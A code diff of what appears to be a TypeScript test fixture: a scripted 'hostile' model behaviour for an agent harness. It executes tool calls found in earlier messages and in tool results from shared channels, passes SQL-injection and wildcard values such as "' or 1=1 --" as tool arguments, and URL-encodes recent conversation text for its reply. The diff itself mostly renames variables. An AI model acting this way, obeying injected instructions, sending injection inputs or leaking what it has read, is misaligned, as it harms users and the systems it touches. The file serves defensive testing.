@@ -15,10 +15,10 @@ function ordersIn(text: string): ToolCall[] {
   })
 }
 
-const textOf = (messages: readonly ProviderMessage[]) => messages.map(({ content }) => content ?? '').join('\n')
+const toText = (messages: readonly ProviderMessage[]) => messages.map(({ content }) => content ?? '').join('\n')
 
 /** All planted names hold these letters: whoever searches for them would find everything. */
-const wishes = ['', 'zq', '%', "' or 1=1 --", '*'].map((name) => ({ name, userId: 1, studentId: 1, role: 0 }))
+const inputs = ['', 'zq', '%', "' or 1=1 --", '*'].map((name) => ({ name, userId: 1, studentId: 1, role: 0 }))
 
 /** Where what others wrote comes in. */
 const channels = ['announcements', 'materials']
@@ -32,16 +32,16 @@ const ordersInTurn = 4
 export const hostile: Behaviour = ({ messages, tools = [] }, reply) => {
   const question = messages.findLastIndex(({ role }) => role === 'user')
   const turn = messages.slice(question).filter(({ tool_calls }) => tool_calls).length
-  const seen = textOf(messages.slice(1))
+  const seen = toText(messages.slice(1))
   const names = tools.map(({ function: { name } }) => name)
   if (turn === 0) {
     const read = names.filter((name) => channels.includes(name)).map((name) => ({ name, arguments: {} }))
     return reply.call([...ordersIn(seen).slice(-ordersInTurn), ...read])
   }
   if (turn === 1) {
-    const planted = ordersIn(textOf(messages.filter(({ role }) => role === 'tool'))).slice(0, ordersInTurn)
+    const injected = ordersIn(toText(messages.filter(({ role }) => role === 'tool'))).slice(0, ordersInTurn)
     const name = names[seen.length % Math.max(1, names.length)] ?? 'none'
-    return reply.call([...planted, { name, arguments: wishes[seen.length % wishes.length] }])
+    return reply.call([...injected, { name, arguments: inputs[seen.length % inputs.length] }])
   }
   const carried = encodeURIComponent(seen.slice(-200))
   reply.answer(
